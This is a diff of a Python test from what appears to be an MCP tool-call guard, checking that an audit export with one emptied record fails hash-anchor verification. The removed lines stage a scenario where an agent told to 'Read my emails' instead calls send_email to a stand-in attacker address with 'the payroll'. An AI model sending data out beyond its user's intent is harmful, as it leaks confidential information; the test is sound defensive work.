@@ -11,27 +11,13 @@ says so.
 from __future__ import annotations
 
 import json
-import subprocess
 
 from mcp_guard.canonical import sha256_hex
-from tests.attacks.client import Attacker
-from tests.attacks.test_intent_e2e import world
-from tests.clients import GUARD
-
-
-def _guard(cfg, *args):
-    return subprocess.run([*GUARD, "--config", str(cfg), *args], capture_output=True, text=True, timeout=120)
+from tests.attacks.test_s13_export_duplicate_members import exported_trail, run_guard
 
 
 def test_a_full_export_with_a_record_emptied_does_not_verify(tmp_path):
-    cfg, _ = world(tmp_path, ["list_emails", "send_email"], {"list_emails": "From: bob@corp.example"})
-    with Attacker(cfg, "--upstream", "world", "--intent", "Read my emails") as a:
-        a.open()
-        a.names()
-        a.call("send_email", {"to": "eve@evil.example", "body": "the payroll"})
-    anchor = _guard(cfg, "audit", "head").stdout.strip()
-    export = tmp_path / "audit.jsonl"
-    assert _guard(cfg, "audit", "export", str(export)).returncode == 0
+    cfg, anchor, export = exported_trail(tmp_path)
     lines = [json.loads(line) for line in export.read_text().splitlines()]
     assert lines[0]["session"] is None  # a full export: every record with its data
     emptied = 0
@@ -41,5 +27,5 @@ def test_a_full_export_with_a_record_emptied_does_not_verify(tmp_path):
             emptied += 1
     assert emptied == 1
     export.write_text("".join(json.dumps(rec) + "\n" for rec in lines))
-    checked = _guard(cfg, "audit", "verify", "--file", str(export), "--anchor", anchor)
+    checked = run_guard(cfg, "audit", "verify", "--file", str(export), "--anchor", anchor)
     assert checked.returncode != 0, f"an emptied record verified against the anchor: {checked.stdout}"
